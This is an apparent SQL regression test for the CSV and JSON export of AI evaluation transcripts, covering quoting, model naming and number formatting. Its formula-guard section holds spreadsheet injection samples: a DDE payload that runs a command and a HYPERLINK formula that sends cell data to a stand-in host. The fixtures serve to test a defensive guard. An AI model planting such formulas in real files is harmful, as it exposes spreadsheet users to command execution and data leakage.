-- CSV export: the view transcript_export and export_run_csv(run_id) in the
-- reference platform's layout, with RFC 4180 quoting.
-- Expected values below are written from the layout rules (README, "Reading
-- the results"), not copied from output: header "AI Model Name", "Sample
-- Index", the numeric dimensions sorted by name (byte order), "Decision
-- Code", "Decision Text", "Transcript ID", "Target Response"; a field with a
-- comma, a double quote, CR or LF is quoted and its quotes doubled.

-- Error reporter: SQLSTATE and message, nothing that varies between runs.
CREATE FUNCTION pg_temp.sqlstate_of(query text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE query;
    RETURN 'no error';
EXCEPTION WHEN OTHERS THEN
    RETURN SQLSTATE || ': ' || SQLERRM;
END $$;

INSERT INTO multisample.definitions (id, name) VALUES ('ex-def', 'Export definition');
INSERT INTO multisample.scenarios (id, definition_id, name, content, created_at) VALUES
    -- "b, c" and "A""q" need quoting in the header; "note" is not a number
    -- (left out); "a" < "b, c" < "z" in byte order, upper case first: "A""q" < "Zed".
    ('ex-s1', 'ex-def', 'first',  '{"dimensions": {"z": 3, "b, c": 2.5, "A\"q": 1, "note": "text"}}', '2024-01-01'),
    ('ex-s2', 'ex-def', 'second', '{"dimensions": {"Zed": 4, "z": 1}}', '2024-01-02'),
    ('ex-s3', 'ex-def', 'third',  '{}', '2024-01-03');
INSERT INTO multisample.runs (id, definition_id, config) VALUES
    ('ex-run',   'ex-def', '{"models": ["openai:gpt-4o-20240513", "m2"], "samplesPerScenario": 2}'),
    ('ex-other', 'ex-def', '{}'),
    ('ex-empty', 'ex-def', '{}');
INSERT INTO multisample.transcripts
    (run_id, id, scenario_id, model_id, sample_index, score, decision_code, decision_text, content, deleted_at) VALUES
    -- {role, content} turns: the assistant turns are the target response.
    ('ex-run', 'ex-t1', 'ex-s1', 'openai:gpt-4o-20240513', 0, 4, '4', 'Agrees, "mostly"',
     '{"turns": [{"role": "user", "content": "Q1"}, {"role": "assistant", "content": "yes, because\r\nreasons"},
                 {"role": "user", "content": "Q2"}, {"role": "assistant", "content": "é 😀"}]}', NULL),
    -- Reference-platform turns: targetResponse of every turn; empty ones skipped.
    ('ex-run', 'ex-t2', 'ex-s1', 'openai:gpt-4o-20240513', 1, NULL, NULL, NULL,
     '{"turns": [{"probePrompt": "p1", "targetResponse": "plain"}, {"probePrompt": "p2", "targetResponse": ""},
                 {"probePrompt": "p3", "targetResponse": "line1\nline2"}]}', NULL),
    -- Deleted: never exported.
    ('ex-run', 'ex-t2-old', 'ex-s1', 'openai:gpt-4o-20240513', 1, 1, '1', 'old', '{}', '2024-02-01'),
    ('ex-run', 'ex-t3', 'ex-s2', 'm2', 0, 2, '2', 'no special characters', '{"turns": []}', NULL),
    -- Not a turns document: no target response.
    ('ex-run', 'ex-t4', 'ex-s3', 'm2', 1, 3, '3', 'comma, only', '"free text"', NULL),
    ('ex-other', 'ex-o1', 'ex-s1', 'm2', 0, 5, '5', 'other run', '{}', NULL);

-- Header, then one record per live transcript ordered by model id, scenario
-- id and sample index. Dimension columns: A"q, Zed, "b, c", z.
-- ex-t1: model name without provider and date; decision text quoted
-- ("Agrees, ""mostly"""); target response = both assistant turns joined by
-- LF LF "---" LF LF, quoted because of the comma and the CR LF.
-- ex-t2: missing decision -> "pending" / "Summary not yet generated";
-- "plain" and "line1\nline2" joined (the empty response is skipped).
-- ex-t3 (scenario ex-s2): only Zed and z; empty target response.
-- ex-t4 (scenario ex-s3, no dimensions): four empty dimension fields.
SELECT * FROM multisample.export_run_csv('ex-run');

-- Record count = live transcripts + header.
SELECT count(*) AS records FROM multisample.export_run_csv('ex-run');
-- A run without transcripts: the fixed columns only.
SELECT * FROM multisample.export_run_csv('ex-empty');

-- The view: one row per live transcript, with sample_index; for \copy ... CSV HEADER.
SELECT transcript_id, model_id, model_name, scenario_id, sample_index, dimensions, decision_code, score,
       target_response
  FROM multisample.transcript_export
 WHERE run_id = 'ex-run'
 ORDER BY transcript_id;

-- COPY's own CSV quoting of the view agrees with RFC 4180 as well.
COPY (SELECT transcript_id, sample_index, decision_text, target_response
        FROM multisample.transcript_export WHERE run_id = 'ex-run' ORDER BY transcript_id)
  TO STDOUT WITH (FORMAT csv, HEADER);

-- Model names as the reference platform shortens them.
SELECT m AS model_id,
       (SELECT model_name FROM multisample.transcript_export e WHERE e.model_id = m LIMIT 1) AS model_name
  FROM (VALUES ('openai:gpt-4o-20240513'), ('m2')) AS v (m);

-- Unknown or NULL run.
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('no-such-run')$$);
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv(NULL)$$);

-------------------------------------------------------------------------------
-- 1.2: the spreadsheet guard (protect_formulas, on by default).
-------------------------------------------------------------------------------
-- A text cell whose first character is =, +, -, @, TAB or CR gets a leading
-- apostrophe (inside the quotes when the cell is quoted); other texts,
-- numbers (the sample index, dimension values: -2 stays -2) and empty cells
-- are unchanged. The dimension name "=cmd|' /C calc'!A0" is guarded in the
-- header; "-x" too. Expected records (protect_formulas on):
--   header: AI Model Name,Sample Index,'-x,'=cmd|' /C calc'!A0,Decision Code,...
--   fx-1: '=HYPERLINK(...) in the decision code, '@SUM(1) text, "'+1+1, ok"
--   fx-2: '-2+3 code, TAB text guarded, CR-led response quoted with ' inside
--   fx-3: "=" only in the middle of a text: unchanged
INSERT INTO multisample.scenarios (id, definition_id, name, content) VALUES
    ('fx-s1', 'ex-def', 'formulas', '{"dimensions": {"=cmd|'' /C calc''!A0": -2, "-x": 1.5}}');
INSERT INTO multisample.runs (id, definition_id, config) VALUES ('fx-run', 'ex-def', '{}');
INSERT INTO multisample.transcripts
    (run_id, id, scenario_id, model_id, sample_index, decision_code, decision_text, content) VALUES
    ('fx-run', 'fx-1', 'fx-s1', 'm-fx', 0, '=HYPERLINK("http://x.example/?"&A1, "click")', '@SUM(1)',
     '{"turns": [{"targetResponse": "+1+1, ok"}]}'),
    ('fx-run', 'fx-2', 'fx-s1', 'm-fx', 1, '-2+3', E'\tTAB first',
     E'{"turns": [{"targetResponse": "\\rCR first"}]}'),
    ('fx-run', 'fx-3', 'fx-s1', 'm-fx', 2, 'a=b', 'x @ y', '{"turns": [{"targetResponse": "1-2"}]}');
SELECT * FROM multisample.export_run_csv('fx-run');
-- protect_formulas => false: the texts exactly as stored.
SELECT * FROM multisample.export_run_csv('fx-run', protect_formulas => false);

-------------------------------------------------------------------------------
-- 1.2: distinct model ids never share a name.
-------------------------------------------------------------------------------
-- openai:gpt-4o, azure:gpt-4o and gpt-4o-20240513 all shorten to "gpt-4o":
-- in that run every model (also anthropic:claude-3-5-haiku-20241022, whose
-- short name is unique) is named by its model id. In ex-run the short names
-- differ, so they are used.
INSERT INTO multisample.runs (id, definition_id, config) VALUES ('mn-run', 'ex-def', '{}');
INSERT INTO multisample.transcripts (run_id, id, scenario_id, model_id, sample_index, content) VALUES
    ('mn-run', 'mn-1', 'ex-s3', 'openai:gpt-4o', 0, '{}'),
    ('mn-run', 'mn-2', 'ex-s3', 'azure:gpt-4o', 0, '{}'),
    ('mn-run', 'mn-3', 'ex-s3', 'gpt-4o-20240513', 0, '{}'),
    ('mn-run', 'mn-4', 'ex-s3', 'anthropic:claude-3-5-haiku-20241022', 0, '{}');
SELECT * FROM multisample.export_run_csv('mn-run');
SELECT run_id, model_id, model_name FROM multisample.transcript_export
 WHERE run_id IN ('mn-run', 'ex-run') ORDER BY run_id, model_id;

-------------------------------------------------------------------------------
-- 1.2: the reference layout.
-------------------------------------------------------------------------------
-- js_number_text prints numbers as JavaScript's String(Number(x)):
--   1.0 -> 1; 2.50 -> 2.5; 0.00000015 -> 1.5e-7 (n = -6: exponent form);
--   0.000001 -> 0.000001 (n = -5); 1e21 -> 1e+21 (n = 22); 1e20 -> 100000000000000000000;
--   123456789012345678901 -> 123456789012345680000 (nearest double 1.2345678901234568e20,
--   17 significant digits, n = 21); -0.0 -> 0; 0.1 + 0.2 as a double -> 0.30000000000000004;
--   9007199254740993 -> 9007199254740992 (2^53 + 1 is not a double: ties to even);
--   1e400 -> Infinity, -1e400 -> -Infinity (JSON.parse overflows), 1e-400 -> 0;
--   -123.456e-10 -> -1.23456e-8.
SELECT v AS stored, multisample.js_number_text(v::numeric) AS javascript
  FROM unnest(ARRAY['1.0', '2.50', '0.00000015', '0.000001', '1e21', '1e20', '123456789012345678901', '-0.0',
                    '0.30000000000000004', '9007199254740993', '1e400', '-1e400', '1e-400', '-123.456e-10']) AS v;
-- Dimension order. a (U+0061), é (U+00E9), Ａ (U+FF21), 😀 (U+1F600):
-- byte order (code points) a < é < Ａ < 😀; JavaScript compares UTF-16 units,
-- where 😀 is D83D DE00 < FF21, so a < é < 😀 < Ａ. Values: 1.0, 2.50, 1e21,
-- 0.00000015 print as 1, 2.5, 1e+21, 1.5e-7 (reference) and as stored (default).
-- The reference file starts with the byte order mark EF BB BF.
INSERT INTO multisample.scenarios (id, definition_id, name, content) VALUES
    ('ref-s1', 'ex-def', 'reference', '{"dimensions": {"a": 1.0, "é": 2.50, "Ａ": 1e21, "😀": 0.00000015}}');
INSERT INTO multisample.runs (id, definition_id, config) VALUES ('ref-run', 'ex-def', '{}');
INSERT INTO multisample.transcripts (run_id, id, scenario_id, model_id, sample_index, decision_code, content) VALUES
    ('ref-run', 'ref-1', 'ref-s1', 'p:model-20240101', 0, '3', '{"turns": [{"targetResponse": "ok"}]}');
SELECT * FROM multisample.export_run_csv('ref-run', reference_layout => true);
SELECT * FROM multisample.export_run_csv('ref-run');
SELECT encode(convert_to(left(line, 2), 'UTF8'), 'hex') AS first_bytes
  FROM multisample.export_run_csv('ref-run', reference_layout => true) WITH ORDINALITY AS x (line, n) WHERE n = 1;
-- No BOM in the default layout.
SELECT encode(convert_to(left(line, 1), 'UTF8'), 'hex') AS first_bytes
  FROM multisample.export_run_csv('ref-run') WITH ORDINALITY AS x (line, n) WHERE n = 1;
-- Bad arguments.
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('ref-run', NULL)$$);
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_csv('ref-run', reference_layout => NULL)$$);

-------------------------------------------------------------------------------
-- 1.2: export_run_json, one object per live transcript, in export order.
-------------------------------------------------------------------------------
SELECT j::jsonb - 'createdAt' AS transcript
  FROM multisample.export_run_json('ex-run') AS j;
-- One line each: the json text holds no line break (escaped as \n, \r).
SELECT count(*) AS rows, count(*) FILTER (WHERE j::text ~ '[\r\n]') AS with_line_breaks
  FROM multisample.export_run_json('ex-run') AS j;
SELECT count(*) AS rows FROM multisample.export_run_json('ex-empty');
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_json('no-such-run')$$);
SELECT pg_temp.sqlstate_of($$SELECT * FROM multisample.export_run_json(NULL)$$);
